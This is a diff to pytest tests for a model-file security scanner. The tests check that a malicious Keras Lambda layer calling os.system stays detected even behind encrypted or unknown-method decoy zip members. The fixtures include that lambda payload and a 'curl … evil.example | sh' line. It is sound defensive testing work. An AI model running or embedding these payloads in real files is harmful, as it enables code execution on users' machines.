@@ -14,6 +14,7 @@ import tarfile
 import zipfile
 import zlib
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pytest
@@ -21,6 +22,7 @@ import pytest
 from modelaudit.findings import IssueSeverity
 from modelaudit.rules import containers as crules
 from modelaudit.rules import data as rd
+from modelaudit.rules import frameworks as rf
 from tests.containers._container_corpus import (
     Member,
     criticals,
@@ -30,7 +32,7 @@ from tests.containers._container_corpus import (
     scan,
     zipcrypto,
 )
-from tests.frameworks.test_keras_zip import keras3_config, write_keras_zip
+from tests.frameworks.test_keras_zip import _lambda3, keras3_config, write_keras_zip
 
 ELF = Path(sys.executable).resolve().read_bytes()[:8192]
 SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
@@ -183,3 +185,47 @@ def test_clear_benign_member_flagged_encrypted_is_quiet(tmp_path: Path) -> None:
     result = scan(path)
     assert not criticals(result)
     assert result.status.value == "complete"
+
+
+EVIL_LAMBDA = "lambda s: __import__('os').system('id') or s"
+
+
+def _keras_members(tmp_path: Path, layers: list[Any]) -> list[Member]:
+    real = write_keras_zip(tmp_path / "real.keras", keras3_config(layers))
+    with zipfile.ZipFile(real) as zf:
+        return [Member(i.filename, zf.read(i)) for i in zf.infolist()]
+
+
+def test_keras_member_flagged_encrypted_but_clear_is_scanned(tmp_path: Path) -> None:
+    """zipfile (and so Keras) refuses the member; miniz and other readers do not."""
+    members = _keras_members(tmp_path, [])
+    path = tmp_path / "model.keras"
+    path.write_bytes(raw_zip([*members, Member("assets/state.pkl", payload(2), flags=0x1)]))
+    result = scan(path)
+    assert any("system" in m for m in criticals(result))
+    assert crules.ENCRYPTED_MEMBER not in rules_of(result)
+
+
+@pytest.mark.parametrize(
+    "decoy",
+    [
+        Member("aaa/notes.bin", b"x" * 40, method=99),
+        Member(
+            "aaa/notes.bin",
+            b"x" * 40,
+            flags=0x1,
+            stored=zipcrypto(b"x" * 40, b"k", zlib.crc32(b"x" * 40)),
+            crc=zlib.crc32(b"x" * 40),
+        ),
+    ],
+    ids=["unknown-method", "really-encrypted"],
+)
+def test_unreadable_keras_member_does_not_hide_the_config(tmp_path: Path, decoy: Member) -> None:
+    """Keras never opens the decoy, so it loads the model: its config is still judged."""
+    members = _keras_members(tmp_path, [_lambda3(EVIL_LAMBDA)])
+    path = tmp_path / "model.keras"
+    path.write_bytes(raw_zip([decoy, *members]))
+    result = scan(path)
+    assert {rf.KERAS_LAMBDA_DANGEROUS} <= {i.rule for i in result.issues if i.severity is CRIT}
+    assert rules_of(result) & {crules.ENCRYPTED_MEMBER, crules.UNSUPPORTED_COMPRESSION}
+    assert result.status.value == "inconclusive"
